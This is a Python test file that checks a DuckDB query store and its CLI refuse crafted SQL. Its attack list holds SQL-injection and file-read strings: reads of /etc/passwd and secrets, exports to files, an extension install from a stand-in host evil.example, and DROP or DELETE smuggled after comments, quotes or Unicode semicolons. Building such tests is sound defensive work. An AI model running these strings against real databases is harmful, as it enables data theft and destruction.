"""`detente query` / Store.query against crafted SQL: every attempt to write, attach, copy out, load
extensions, read files or smuggle a second statement is refused; nothing changes and no file appears."""
from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest
from sec_helpers import fingerprint

from detente.errors import StoreError
from detente.store import Store

ATTACKS = [
    # state changes, plain and disguised
    "ATTACH '{tmp}/evil.duckdb' AS evil", "attach database '{tmp}/evil.duckdb' as e (READ_ONLY false)",
    "DETACH fixture", "COPY events TO '{tmp}/out.csv'", "COPY (SELECT * FROM events) TO '{tmp}/out.parquet' (FORMAT parquet)",
    "EXPORT DATABASE '{tmp}/dump'", "IMPORT DATABASE '{tmp}/dump'", "INSTALL httpfs", "LOAD httpfs",
    "FORCE INSTALL httpfs FROM 'http://evil.example'", "PRAGMA database_list", "PRAGMA enable_external_access",
    "SET enable_external_access = true", "RESET lock_configuration", "CALL pragma_version()",
    "DELETE FROM events", "UPDATE events SET goldstein = 10", "INSERT INTO rejects SELECT * FROM rejects",
    "DROP TABLE events", "CREATE TABLE t AS SELECT 1", "CREATE MACRO m() AS 1", "ALTER TABLE events RENAME TO e2",
    "TRUNCATE events", "CHECKPOINT", "VACUUM", "BEGIN TRANSACTION", "USE memory",
    "WITH x AS (SELECT 1) DELETE FROM events", "WITH x AS (DELETE FROM events RETURNING *) SELECT * FROM x",
    # file-reading functions and replacement scans
    "SELECT * FROM read_csv('/etc/passwd')", "SELECT * FROM read_csv_auto('/etc/passwd')",
    "SELECT * FROM read_text('/etc/passwd')", "SELECT * FROM read_blob('/etc/passwd')",
    "SELECT * FROM read_json_auto('/etc/passwd')", "SELECT * FROM read_parquet('/x.parquet')",
    "SELECT * FROM glob('/etc/*')", "SELECT * FROM sniff_csv('/etc/passwd')", "SELECT * FROM '/etc/passwd'",
    "SELECT * FROM 'events.csv'", "FROM '/etc/passwd'", "SELECT * FROM (('/etc/passwd'))",
    "SELECT getenv('HOME')", "SELECT * FROM duckdb_secrets()", "SELECT * FROM query('DROP TABLE events')",
    "SELECT * FROM query_table('events')", "SELECT * FROM READ_CSV('/etc/passwd')",
    "SELECT * FROM \"read_csv\"('/etc/passwd')", "SELECT * FROM main.read_text('/etc/passwd')",
    # several statements, comment and quoting tricks
    "SELECT 1; DROP TABLE events", "SELECT 1;DROP TABLE events;", "SELECT 1 -- harmless\n; DROP TABLE events",
    "SELECT 1 /* ; */ ; DELETE FROM events", "SELECT 1 /* unterminated", "SELECT 'a''; DROP TABLE events; --",
    "SELECT $$x$$; DROP TABLE events", "SELECT E'\\''; DROP TABLE events; --'",
    "SELECT 1\u037e DROP TABLE events", "SELECT 1\uff1b DROP TABLE events", "\ufeffDROP TABLE events",
    "EXPLAIN ANALYZE DELETE FROM events", "DESCRIBE DELETE FROM events", "SUMMARIZE DELETE FROM events",
    "SELECT 1 UNION ALL SELECT count(*) FROM read_csv('/etc/passwd')", "(DELETE FROM events)",
    "VALUES (1); DROP TABLE events", "SHOW TABLES; DROP TABLE events", "TABLE events; DELETE FROM events",
]


#: DuckDB treats these as comments (unlike MySQL): they may run, but only as the SELECT they contain.
HARMLESS = ["/*!50000 DROP TABLE events*/ SELECT 1", "SELECT 1 -- ; DROP TABLE events", "SELECT 1 /* DELETE FROM events */"]


@pytest.fixture(params=[True, False], ids=["read-only", "writable"])
def store(request, db_copy):
    with Store(db_copy, read_only=request.param) as s:
        yield s


def test_security_query_refuses_every_attack(store, tmp_path):
    tmp_path = tmp_path / "out"
    tmp_path.mkdir()
    before = fingerprint_of(store)
    passed = []
    for sql in ATTACKS:
        sql = sql.format(tmp=tmp_path)
        try:
            rows = store.query(sql)
        except StoreError:
            continue
        passed.append((sql, list(rows)[:3]))
    assert passed == [], "these ran instead of being refused"
    for sql in HARMLESS:
        assert list(store.query(sql)) == [(1,)]
    assert fingerprint_of(store) == before
    assert list(tmp_path.iterdir()) == []


def fingerprint_of(store: Store) -> list:
    """Every table's rows, through the store's own connection."""
    return [(t, sorted(map(repr, store.query(f'SELECT * FROM "{t}"'))))
            for (t,) in store.query("SELECT table_name FROM information_schema.tables ORDER BY 1")]


def test_security_query_past_the_guard_still_cannot_touch_files(db_copy, tmp_path):
    """Defence in depth: the connection itself has external access off and its configuration locked."""
    tmp_path = tmp_path / "out"
    tmp_path.mkdir()
    with Store(db_copy) as s:
        for sql in ("SELECT * FROM read_text('/etc/passwd')", f"COPY events TO '{tmp_path}/x.csv'",
                    "SET enable_external_access = true", f"ATTACH '{tmp_path}/e.duckdb' AS e"):
            with pytest.raises(Exception):
                s.con.execute(sql)
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("sql", ["ATTACH '/tmp/evil.duckdb' AS e", "COPY events TO '/tmp/detente-x.csv'",
                                 "INSTALL httpfs", "SELECT 1; DROP TABLE events", "SELECT * FROM read_text('/etc/passwd')"])
def test_security_cli_query_refuses_with_one_line(db_copy, sql):
    before = fingerprint(db_copy)
    p = subprocess.run([sys.executable, "-c", "from detente.cli import main; main()", "query", sql, "--db",
                        str(db_copy)], capture_output=True, text=True, timeout=120)
    lines = [ln for ln in p.stderr.splitlines() if ln.strip()]
    assert p.returncode == 2 and len(lines) == 1 and lines[0].startswith("detente: error: [E300]"), p.stderr
    assert fingerprint(db_copy) == before
    assert not Path("/tmp/evil.duckdb").exists() and not Path("/tmp/detente-x.csv").exists()
